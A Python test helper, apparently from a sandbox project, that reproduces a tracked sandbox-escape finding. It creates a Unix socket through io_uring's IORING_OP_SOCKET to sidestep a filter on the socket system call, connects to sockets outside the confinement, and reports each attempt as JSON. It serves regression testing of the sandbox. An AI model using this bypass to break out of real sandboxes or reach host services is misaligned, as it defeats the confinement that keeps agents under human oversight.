"""The issue-28 attack, as a program the tests run inside the sandbox.

``python uring_shim.py [--report FILE] PATH… [--exec ARGV…]``: for each PATH
(a listening Unix stream socket outside), tries every way a confined process
could reach it and prints one JSON object per path (to FILE if given, else to
stdout): ``visible`` (a socket is at the path here), ``uring`` (an ``AF_UNIX`` socket
made by io_uring's ``IORING_OP_SOCKET``, then a plain ``connect``: "connected"
or the error), ``socket`` (``socket(AF_UNIX)`` and ``connect``), ``dgram`` (a
datagram ``socketpair`` re-``connect``-ed to PATH), and ``socket_fds`` (the
descriptors this process holds that are sockets). Then, with ``--exec``, it
becomes ARGV (an MCP server started by infai runs the attack first).

The io_uring part is the finding's shim, in ctypes: set up a ring, map it, put
one ``IORING_OP_SOCKET`` entry on it, submit and wait with ``io_uring_enter``.
"""

from __future__ import annotations

import ctypes
import errno
import json
import mmap
import os
import socket
import stat
import struct
import sys

SYS_IO_URING_SETUP = 425  # the same number on every architecture
SYS_IO_URING_ENTER = 426
IORING_OP_SOCKET = 45
IORING_ENTER_GETEVENTS = 1
IORING_OFF_SQ_RING = 0
IORING_OFF_CQ_RING = 0x8000000
IORING_OFF_SQES = 0x10000000

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long


def _syscall(*args: int | ctypes.Array[ctypes.c_char]) -> int:
    """A raw system call; an OSError for -1."""
    conv = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    result = int(_libc.syscall(*conv))
    if result == -1:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))
    return result


def io_uring_setup(entries: int) -> tuple[int, bytes]:
    """A ring's descriptor and its ``io_uring_params`` as the kernel filled them."""
    params = ctypes.create_string_buffer(120)
    fd = _syscall(SYS_IO_URING_SETUP, entries, params)
    return fd, params.raw


def uring_socket(family: int, kind: int) -> int:
    """A socket made by ``IORING_OP_SOCKET`` (not the ``socket`` system call)."""
    ring, params = io_uring_setup(4)
    try:
        sq_entries, cq_entries = struct.unpack_from("=II", params, 0)
        _, sq_tail, sq_mask, _, _, _, sq_array = struct.unpack_from("=7I", params, 40)
        cq_head, cq_tail, cq_mask, _, _, cqes = struct.unpack_from("=6I", params, 80)
        sq = mmap.mmap(ring, sq_array + 4 * sq_entries, offset=IORING_OFF_SQ_RING)
        cq = mmap.mmap(ring, cqes + 16 * cq_entries, offset=IORING_OFF_CQ_RING)
        sqes = mmap.mmap(ring, 64 * sq_entries, offset=IORING_OFF_SQES)
        # io_uring_prep_socket: fd = domain, off = type, len = protocol
        sqe = struct.pack("=BBHiQQIIQ", IORING_OP_SOCKET, 0, 0, family, kind, 0, 0, 0, 7)
        sqes[0 : len(sqe)] = sqe
        tail = struct.unpack_from("=I", sq, sq_tail)[0]
        struct.pack_into(
            "=I", sq, sq_array + 4 * (tail & struct.unpack_from("=I", sq, sq_mask)[0]), 0
        )
        struct.pack_into("=I", sq, sq_tail, tail + 1)
        _syscall(SYS_IO_URING_ENTER, ring, 1, 1, IORING_ENTER_GETEVENTS, 0, 0)
        head = struct.unpack_from("=I", cq, cq_head)[0]
        assert head != struct.unpack_from("=I", cq, cq_tail)[0], "no completion"
        slot = cqes + 16 * (head & struct.unpack_from("=I", cq, cq_mask)[0])
        _, res = struct.unpack_from("=Qi", cq, slot)
        struct.pack_into("=I", cq, cq_head, head + 1)
        if res < 0:
            raise OSError(-res, os.strerror(-res))
        return int(res)
    finally:
        os.close(ring)


def _outcome(attempt: object) -> str:
    try:
        attempt()  # type: ignore[operator]
    except OSError as exc:
        return errno.errorcode.get(exc.errno or 0, str(exc.errno))
    return "connected"


def _via_uring(path: str) -> None:
    fd = uring_socket(socket.AF_UNIX, socket.SOCK_STREAM)
    with socket.socket(fileno=fd) as sock:
        sock.connect(path)  # connect(2) is not filtered: the socket was the gate


def _via_socket(path: str) -> None:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.connect(path)


def _via_dgram(path: str) -> None:
    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    with a, b:
        a.connect(path)


def socket_fds() -> list[str]:
    """This process's descriptors that are sockets."""
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{name}")
        except OSError:
            continue
        if target.startswith("socket:"):
            found.append(f"{name} {target}")
    return found


def _is_socket(path: str) -> bool:
    try:
        return stat.S_ISSOCK(os.stat(path).st_mode)
    except OSError:
        return False


def attack(path: str) -> dict[str, object]:
    """Every way to reach ``path``, each with what came of it."""
    return {
        "path": path,
        "visible": _is_socket(path),
        "uring": _outcome(lambda: _via_uring(path)),
        "socket": _outcome(lambda: _via_socket(path)),
        "dgram": _outcome(lambda: _via_dgram(path)),
        "socket_fds": socket_fds(),
    }


def main(argv: list[str]) -> None:
    then: list[str] = []
    if "--exec" in argv:
        at = argv.index("--exec")
        argv, then = argv[:at], argv[at + 1 :]
    report = None
    if argv[:1] == ["--report"]:
        report, argv = argv[1], argv[2:]
    lines = "".join(json.dumps(attack(path)) + "\n" for path in argv)
    if report:
        with open(report, "w", encoding="utf-8") as handle:
            handle.write(lines)
    else:
        sys.stdout.write(lines)
        sys.stdout.flush()
    if then:
        os.execv(then[0], then)


if __name__ == "__main__":
    main(sys.argv[1:])
